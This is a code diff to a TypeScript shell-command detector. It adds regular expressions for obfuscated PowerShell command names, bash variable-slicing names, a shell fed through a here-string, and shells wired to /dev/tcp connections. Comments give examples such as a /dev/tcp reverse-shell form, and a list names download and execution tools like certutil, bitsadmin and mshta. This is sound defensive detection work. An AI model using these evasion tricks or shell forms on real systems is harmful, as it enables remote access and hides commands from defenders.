@@ -14,7 +14,7 @@ const COMPUTED_CALL =
   /\s*\(\s*(?:\(?["'][^"'\n]{0,40}["'](?:\s?,\s?["'][^"'\n]{0,40}["']){0,16}\s?\)?\s*(?:-f\b|-f['"]|-join\b|\+)|-join\s?\(|&?\s?['"]?(?:gcm|get-command)['"]?\s|\$\w{1,20}\[\d|\[(?:char|string)\])/iy;
 /** `. ('Get-Pro'+'cess')`, `$(([char]105+…))`, `&(([char[]](105,…)) -join "")`: a name put together. */
 const COMPUTED_NAME =
-  /\s*(?:[.&]\s?"\$\(|\.\s["'][a-z][\w-]{1,40}["']\s{0,4}(?=$|[;|&#])|[.&]\s?\(\s*["'(][^"'\n]{1,40}["']\s*\+|[.&]\s?\(\(["'][^"'\n]{0,40}["'](?:\s?,\s?["'][^"'\n]{0,40}["']){1,16}\s?\)\s*-join\b|[.&]?\s?\(+\s*\[char(?:\[\])?\]\s*\(?\d{2,3}|[.&]\s?\(+\s*\[char|\.["'][A-Za-z][A-Za-z-]{1,40}["'])/iy;
+  /\s*(?:[.&]\s?"\$\(|\.\s["'][a-z][\w-]{1,40}["']\s{0,4}(?=$|[;|&#])|[.&]\s?\(\s*["'(][^"'\n]{1,40}["']\s*\+|[.&]\s?\(\(["'][^"'\n]{0,40}["'](?:\s?,\s?["'][^"'\n]{0,40}["']){1,16}\s?\)\s*-join\b|[.&]?\s?\(+\s*\[char(?:\[\])?\]\s*\(?\d{2,3}|[.&]\s?\(+\s*\[char|[.&]\s?\(\s*(?:gcm|gal|get-command|get-alias)\s|[.&]\s?\(\s*\$(?:env:)?\w{1,24}\[\d|\.["'][A-Za-z][A-Za-z-]{1,40}["'])/iy;
 /** `$env:USERNAME`, `$x=New-Object Net.WebClient`: about_Environment_Variables, about_Variables. */
 const POWERSHELL_VARIABLE =
   /\s*\$(?:env:[A-Za-z_]\w{1,40}|\w{1,32}\s?=\s?(?:\(?(?:New-Object|Get-\w{3,32}|\[[\w.]{3,60}\]::)\b|'[\w-]{1,40}'\s?\+\s?'))/iy;
@@ -47,6 +47,13 @@ const CONDITION =
 /** What may stand behind a condition: cmd.exe's own commands that batch files use there, and another condition. */
 const BRANCH =
   /^(?:echo|goto|cmd|call|exit|set|cd|chdir|md|mkdir|rd|rmdir|del|erase|copy|move|ren|type|start|if|for|do|dir|pause|color|cls|ver|vol|ping|powershell|pushd|popd|shift|title|net|reg|whoami|ipconfig|nslookup|netstat|systeminfo|tasklist|hostname|query|quser|arp|route|driverquery|getmac|gpresult|fsutil|wevtutil|vssadmin|bitsadmin|mshta|rundll32|regsvr32|cscript|wscript|msiexec|calc|notepad|attrib|xcopy|robocopy|findstr|curl|certutil|wmic|schtasks)$/i;
+
+/** `${PATH:5:1}s`: letters that bash cuts out of variables, manual 3.5.3. */
+const CUT_NAME = /\s*(?:\$\{[A-Z_]{2,20}:\s?-?\d{1,3}(?::-?\d{1,2})?\}[\w/.]{0,16}){1,16}(?=[\s;|&)`<>'"#]|$)/y;
+/** `${!#}<<<id`, `$0<<<id`: the shell itself, given what to run (manual 3.4.2, 3.6.7). */
+const FED_SHELL = /\s*(?:\$\{(?:!#|0|!0|SHELL|BASH)\}|\$(?:0|SHELL|BASH))\s?<<<\s?\S/y;
+/** `(sh)0>/dev/tcp/10.0.0.5/443`: bash's connections, manual 3.6. */
+const CONNECTED_SHELL = /\s*\(\s?[a-z]{2,8}\s?\)\s?\d?[<>]{1,2}&?\s?\/dev\/(?:tcp|udp)\/\S/y;
 
 /** CVE-2014-6271: bash runs what follows a function that a variable's value starts with. */
 export function readFunctionValue(text: string): SpecialForm | undefined {
@@ -89,6 +96,14 @@ export function readSpecialForm(text: string, opening: Opening): SpecialForm | u
   if (test > 0) return { start, end: test, context: "under a condition of bash's" };
   const condition = readCondition(text, end);
   if (condition > 0) return { start, end: condition, context: "under a condition of cmd.exe's" };
+  const fed = matchAt(FED_SHELL, text, end);
+  if (fed > 0) return { start, end: fed, context: 'as what a shell is given to run' };
+  const connected = matchAt(CONNECTED_SHELL, text, end);
+  if (connected > 0) return { start, end: connected, context: 'as a shell that a connection feeds' };
+  const cut = matchAt(CUT_NAME, text, end);
+  // One piece alone may be a value that something else expands.
+  if (cut > 0 && (opening.kind !== 'start' || text.indexOf('${', end + 2) > 0))
+    return { start, end: cut, context: 'as a name cut out of variables' };
   const overwritten = opening.kind === 'start' ? -1 : matchAt(OVERWRITTEN, text, end);
   if (overwritten > 0) return { start, end: overwritten, context: 'as a file that a redirection alone writes' };
   const bomb = matchAt(SELF_STARTING, text, end);
